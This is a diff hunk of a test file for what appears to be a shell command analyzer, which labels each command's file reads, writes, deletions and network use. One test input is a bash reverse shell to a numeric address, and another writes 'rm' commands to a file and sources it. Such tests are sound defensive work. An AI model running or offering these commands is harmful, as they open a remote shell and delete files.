@@ -190,7 +190,7 @@ check("data", [
   ["echo rm a > x; echo rm b >> x; . ./x", "rm via=. deletes=/p/a", "rm via=. deletes=/p/b"],
   ["sh x", "sh reads=/p/x runs=file"],
   ["sh < x", "sh reads=/p/x stdin=file runs=file"],
-  ["bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "bash hosts=1.2.3.4 stdin=network runs=network"],
+  ["bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "bash hosts=1.2.3.4 sends=unknown stdin=network runs=network"],
   ["x > a 2> b >> c < d", "x reads=/p/d writes=/p/a,/p/b,/p/c stdin=file"],
   ["x &> a 2>&1 > /dev/null", "x writes=/p/a"],
   ["{ x; y; } > a", "x writes=/p/a", "y writes=/p/a"],
